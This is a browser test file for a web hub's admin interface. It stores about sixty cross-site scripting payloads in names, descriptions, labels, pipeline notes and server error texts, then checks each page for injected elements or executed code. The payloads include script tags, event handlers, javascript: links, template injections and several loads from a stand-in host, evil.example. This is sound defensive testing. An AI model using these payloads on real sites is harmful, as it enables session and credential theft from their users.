// Stored cross-site scripting: sixty payloads as names, descriptions, labels, points, values, notes, reasons and texts of errors, stored
// through the API (one of them refused by a server that answers with a payload), then every page, in a real browser under the hub's
// policy. None runs, none becomes an element, and the policy has nothing to refuse.
//
//   TRIBUTARY_BIN=build/release/bin/tributary node tests/browser/xss.mjs
import { createServer } from 'node:http';
import { ask, check, loaded, run, signUp, until } from './support.mjs';

// Each would call `ran`, or ask this host, when a browser took it for markup.
const kRun = 'ran(1)';
const payloads = [
  `<script>${kRun}</script>`,
  `<ScRiPt>${kRun}</sCrIpT>`,
  `"><script>${kRun}</script>`,
  `'><script>${kRun}</script>`,
  `</title><script>${kRun}</script>`,
  `</textarea><script>${kRun}</script>`,
  `</style><script>${kRun}</script>`,
  `</script><script>${kRun}</script>`,
  `<<script>${kRun}//<</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script>/*</script>*/${kRun}</script>`,
  `<img src=x onerror=${kRun}>`,
  `<img src=x onerror="${kRun}">`,
  `<IMG SRC=x OnErRoR=${kRun}>`,
  `<img/src=x/onerror=${kRun}>`,
  `"><img src=x onerror=${kRun}>`,
  `' onerror='${kRun}`,
  `" onmouseover="${kRun}`,
  `" autofocus onfocus="${kRun}`,
  `' autofocus onfocus='${kRun}' x='`,
  `\`onmouseover=${kRun}`,
  `<svg onload=${kRun}>`,
  `<svg/onload=${kRun}>`,
  `<svg><script>${kRun}</script></svg>`,
  `<svg><animate onbegin=${kRun} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${kRun}"><text>x</text></a>`,
  `<math><mtext><script>${kRun}</script>`,
  `<body onload=${kRun}>`,
  `<iframe src="javascript:${kRun}"></iframe>`,
  `<iframe srcdoc="<script>parent.${kRun}</script>">`,
  `<object data="javascript:${kRun}"></object>`,
  `<embed src="javascript:${kRun}">`,
  `<a href="javascript:${kRun}">x</a>`,
  `<a href="JaVaScRiPt:${kRun}">x</a>`,
  `<a href="java\tscript:${kRun}">x</a>`,
  `<a href="data:text/html,<script>${kRun}</script>">x</a>`,
  `javascript:${kRun}`,
  `data:text/html,<script>${kRun}</script>`,
  `<form action="javascript:${kRun}"><button>x</button></form>`,
  `<button formaction="javascript:${kRun}">x</button>`,
  `<input autofocus onfocus=${kRun}>`,
  `<select autofocus onfocus=${kRun}>`,
  `<details open ontoggle=${kRun}>`,
  `<video><source onerror=${kRun}>`,
  `<audio src=x onerror=${kRun}>`,
  `<marquee onstart=${kRun}>`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href=//evil.example/>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<style>body{background:url(//evil.example/x)}</style>`,
  `<div style="background:url(//evil.example/x)">`,
  `<template><script>${kRun}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${kRun}>">`,
  `{{constructor.constructor('${kRun}')()}}`,
  `\${${kRun}}`,
  `$t(${kRun})`,
  `{{${kRun}}}`,
  `&lt;script&gt;${kRun}&lt;/script&gt;`,
  `&#60;img src=x onerror=${kRun}&#62;`,
  `\u202e<script>${kRun}</script>`,
  `\u003cscript\u003e${kRun}\u003c/script\u003e`,
];

const server = createServer((asked, answer) => {
  answer.writeHead(asked.url === '/up' ? 200 : 500, { 'Content-Type': 'text/plain' });
  answer.end(payloads.join('\n'));
});

const short = (payload, length) => payload.slice(0, length);

/** Stores one thing; what the hub refuses of it (control characters in names) is no danger to a page. */
async function store(watched, path, body) {
  const answer = await ask(watched, 'POST', path, body);
  check(
    answer.id || /invalid|duplicate|taken|exists/.test(answer.code),
    `POST ${path} was answered with ${JSON.stringify(answer)}`,
  );
  return answer.id ? answer : null;
}

async function storeConnections(watched) {
  let stored = 0;
  for (const [index, payload] of payloads.entries()) {
    const made = await store(watched, '/connections', {
      name: short(payload, 90),
      description: payload,
      type: 'modbus',
      labels: { [`l${index}`]: short(payload, 60) },
      settings: { host: '127.0.0.1', port: 1 },
      autostart: index % 5 === 0,
    });
    if (!made) continue;
    stored += 1;
    if (index % 5 !== 0) continue;
    const answer = await ask(watched, 'POST', `/connections/${made.id}/suspend`, {
      reason: payload,
      until: null,
    });
    check(answer.id, `Suspending was answered with ${JSON.stringify(answer)}`);
  }
  check(stored >= 50, `Only ${stored} of ${payloads.length} connections could be made.`);
}

/** A live connection whose points have the payloads as names. */
async function storePoints(watched, demo) {
  const connection = await store(watched, '/connections', {
    name: '<b onclick=ran(1)>plant</b>',
    description: payloads[0],
    type: 'modbus',
    settings: { host: '127.0.0.1', port: demo.plantPort },
    autostart: true,
  });
  const points = payloads.map((payload, address) => ({
    name: short(payload, 60),
    area: 'holdingRegisters',
    address: address % 16,
    dataType: 'uint16',
  }));
  const distinct = [...new Map(points.map((point) => [point.name, point])).values()];
  const stored = [];
  for (const point of distinct) {
    const made = await store(watched, `/connections/${connection.id}/functions`, {
      name: point.name,
      description: point.name,
      type: 'modbus.read',
      settings: { points: [point] },
    });
    if (made) stored.push(point);
  }
  check(stored.length >= 45, `Only ${stored.length} functions could be made.`);
  const live = await store(watched, `/connections/${connection.id}/functions`, {
    name: 'live <img src=x onerror=ran(1)>',
    type: 'modbus.subscribe',
    settings: { intervalMs: 500, points: stored },
  });
  check(live, 'The function with all points could not be made.');
  return { connection, live };
}

/** Pipelines with payloads in every text, whose scripts throw them; one has run, so that its pages show errors. */
async function storePipelines(watched) {
  let ran = null;
  for (const [index, payload] of payloads.entries()) {
    const made = await store(watched, '/pipelines', {
      name: short(payload, 90),
      description: payload,
      labels: { [`l${index}`]: short(payload, 60) },
      enabled: index < 8,
      history: 'full',
      nodes: [
        { id: 't', type: 'trigger.manual', title: short(payload, 60), settings: {} },
        {
          id: 's',
          type: 'script',
          title: short(payload, 60),
          notes: payload,
          settings: { code: `throw new Error(${JSON.stringify(payload)})` },
        },
      ],
      edges: [{ from: 't', to: 's' }],
    });
    if (!made || index >= 8) continue;
    const run = await ask(watched, 'POST', `/pipelines/${made.id}/run`, {
      input: [{ x: payload }],
    });
    ran ??= run.id ? { pipeline: made.id, run: run.id } : null;
  }
  check(ran, 'No pipeline ran.');
  return ran;
}

/** A server that answers everything with a payload: as an error it comes back to the page that asked. */
async function storeErrors(watched) {
  const connection = await store(watched, '/connections', {
    name: 'answers with payloads',
    type: 'rest',
    settings: { baseUrl: `http://127.0.0.1:${server.address().port}`, healthPath: '/up' },
    autostart: true,
  });
  const asks = await store(watched, `/connections/${connection.id}/functions`, {
    name: 'ask <script>ran(1)</script>',
    type: 'rest.request',
    settings: { method: 'GET', path: '/nothing' },
  });
  check(asks, 'The function that asks the server could not be made.');
  return { connection, asks };
}

/** Nothing on the page came out of a payload: no foreign element, no handler in an attribute, no scripted address. */
async function isClean({ page }, where) {
  const found = await page.evaluate(() => {
    const wrong = [];
    if (globalThis.ranPayloads > 0) wrong.push('a payload ran');
    for (const element of document.querySelectorAll('*')) {
      const { localName } = element;
      if (['iframe', 'object', 'embed', 'base', 'marquee', 'math'].includes(localName))
        wrong.push(`<${localName}>`);
      if (localName === 'script' && !element.src.startsWith(location.origin))
        wrong.push('a script of another origin');
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on')) wrong.push(`${localName} ${name}="${value}"`);
        if (
          ['href', 'src', 'action', 'formaction'].includes(name) &&
          /^\s*(javascript|data:text)/i.test(value)
        )
          wrong.push(`${localName} ${name}="${value}"`);
      }
    }
    return wrong;
  });
  check(found.length === 0, `${where}: ${found.slice(0, 5).join(', ')}`);
}

async function look(watched, path) {
  const { page, base } = watched;
  await page.goto(base + path);
  await loaded(watched);
  await isClean(watched, path);
  // What waits for a pointer or the focus gets them.
  const items = page.locator('main a, main button, main td, main input');
  const count = Math.min(await items.count(), 8);
  for (let index = 0; index < count; index += 1) {
    const item = items.nth(index);
    await item.hover({ timeout: 500, force: true }).catch(() => undefined);
    await item.focus({ timeout: 500 }).catch(() => undefined);
  }
  await isClean(watched, `${path}, touched`);
}

async function executeAndSee(watched, { connection, asks }) {
  const { page, base } = watched;
  const connected = async () =>
    (await ask(watched, 'GET', `/connections/${connection.id}`)).state.status === 'Connected';
  check(await until(connected, 60), 'The server that answers with payloads was not connected to.');
  const refused = await ask(watched, 'POST', `/functions/${asks.id}/execute`, { parameters: {} });
  check(
    JSON.stringify(refused).includes('script'),
    `The error does not quote what the server said: ${JSON.stringify(refused)}`,
  );
  await page.goto(`${base}/connections/${connection.id}/functions`);
  await page.getByRole('button', { name: 'Execute' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('button', { name: 'Run' }).click();
  await dialog
    .getByText(/script/)
    .first()
    .waitFor();
  await isClean(watched, 'the dialog with the error');
}

async function palette(watched) {
  const { page } = watched;
  await page.keyboard.press('Control+k');
  await page.getByRole('combobox', { name: 'Search and commands' }).waitFor();
  await page.keyboard.type('ran(1)');
  await page.getByRole('listbox').getByRole('option').first().waitFor();
  await isClean(watched, 'the palette');
  await page.keyboard.press('Escape');
}

async function journey(demo, watched) {
  const { page } = watched;
  await page.addInitScript(() => {
    globalThis.ranPayloads = 0;
    globalThis.ran = () => {
      globalThis.ranPayloads += 1;
    };
  });
  page.on('dialog', (dialog) => {
    watched.problems.push(`opened a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await signUp(watched, demo);
  await storeConnections(watched);
  const { connection, live } = await storePoints(watched, demo);
  const { pipeline, run: runId } = await storePipelines(watched);
  const errors = await storeErrors(watched);
  const { items } = await ask(watched, 'GET', '/connections?limit=1000');
  const suspended = items.find((one) => one.state.status === 'Suspended');
  const at = `/connections/${connection.id}`;
  for (const path of [
    '/connections',
    `/connections/${suspended.id}`,
    `/connections/${suspended.id}/health`,
    ...['values', 'functions', `functions/${live.id}`, 'health', 'edit'].map(
      (tab) => `${at}/${tab}`,
    ),
    '/pipelines',
    ...['graph', 'runs', `runs/${runId}`, 'versions', 'usedby', 'edit'].map(
      (tab) => `/pipelines/${pipeline}/${tab}`,
    ),
    '/health',
    ...['certificates', 'secrets', 'system', 'audit'].map((tab) => `/settings/${tab}`),
  ])
    await look(watched, path);
  await palette(watched);
  await executeAndSee(watched, errors);
}

server.listen(0, '127.0.0.1', () => {
  server.unref();
  run(journey, {
    done: `${payloads.length} payloads in every text of every page: none ran, none became an element.`,
    // What the hub refuses of them (control characters, for one) it answers with 422; the server that refuses is passed on.
    expected: /status of (422|409|502)/,
    // The hub sends nothing to its own machine unless it is told to.
    flags: ['--allow-egress', `127.0.0.1:${server.address().port}`],
  });
});
